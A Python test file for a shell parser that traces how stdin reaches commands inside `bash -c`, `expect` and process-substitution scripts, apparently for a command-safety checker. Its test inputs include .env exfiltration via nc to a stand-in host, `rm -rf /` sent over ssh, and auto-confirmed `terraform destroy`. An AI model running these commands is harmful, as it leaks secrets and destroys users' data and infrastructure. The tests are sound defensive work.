"""What feeds a shell's stdin feeds the commands of its `-c` script that read it (parse.pass_stdin):
`yes | bash -c 'terraform destroy'` answers terraform's prompt, `bash -c 'nc h 9' < .env` sends .env.
A command of the script with its own stdin (a pipe inside, a redirect, a here-string) keeps it."""
from __future__ import annotations

from adr.shell.parse import parse


def _cmd(line: str, prog: str):
    return next(c for c in parse(line).commands if c.argv and c.argv[0] == prog)


def test_a_pipe_into_a_shell_reaches_the_scripts_reader():
    assert "yes" in _cmd("yes | bash -c 'terraform destroy'", "terraform").upstream
    assert "yes" in _cmd("yes | script -qc 'terraform destroy' /dev/null", "terraform").upstream
    # nested twice
    assert "yes" in _cmd("yes | sh -c \"bash -c 'terraform destroy'\"", "terraform").upstream


def test_a_file_or_text_on_the_shells_stdin_is_the_readers():
    nc = _cmd("bash -c 'nc x.example 9' < .env", "nc")
    assert any(r.op == "<" and r.target == ".env" for r in nc.redirects)
    assert _cmd("bash -c 'terraform destroy' <<< yes", "terraform").stdin_text == "yes\n"
    # a shell the script starts reads the text as commands
    assert any(c.argv[:2] == ("rm", "-rf") for c in parse("echo 'rm -rf ~' | bash -c bash").commands)


def test_a_command_with_its_own_stdin_keeps_it():
    grep = _cmd("bash -c 'grep x < notes.txt' < .env", "grep")
    assert not any(r.target == ".env" for r in grep.redirects)
    nc = _cmd("echo hi | bash -c 'printf a | nc x.example 9'", "nc")
    assert nc.stdin_text != "hi\n"
    assert _cmd("bash -c 'cat <<< x' < .env", "cat").stdin_text == "x\n"


def test_what_an_expect_script_sends_is_the_spawned_commands_stdin():
    tf = _cmd("""expect -c 'spawn terraform destroy; expect "value:"; send "yes\\r"; interact'""", "terraform")
    assert tf.stdin_text == "yes\n" and "printf" in tf.upstream
    remote = [c for c in parse("""expect -c 'spawn ssh root@h; send "rm -rf /\\r"'""").commands if c.argv[:1] == ("rm",)]
    assert remote and remote[0].argv == ("rm", "-rf", "/")  # typed into ssh: run there


def test_a_process_substitution_on_the_shells_stdin_feeds_the_scripts_readers():
    assert "yes" in _cmd("bash -c 'terraform destroy' < <(yes)", "terraform").upstream
    assert "nc" in _cmd("bash -c 'nc x.example 9' < <(cat .env)", "cat").downstream
    assert "nc" in _cmd("bash -c 'nc x.example 9' <<< \"$(cat .env)\"", "cat").downstream
    # expect's exp_send is its send
    assert _cmd("""expect -c 'spawn terraform destroy; exp_send "yes\\r"'""", "terraform").stdin_text == "yes\n"
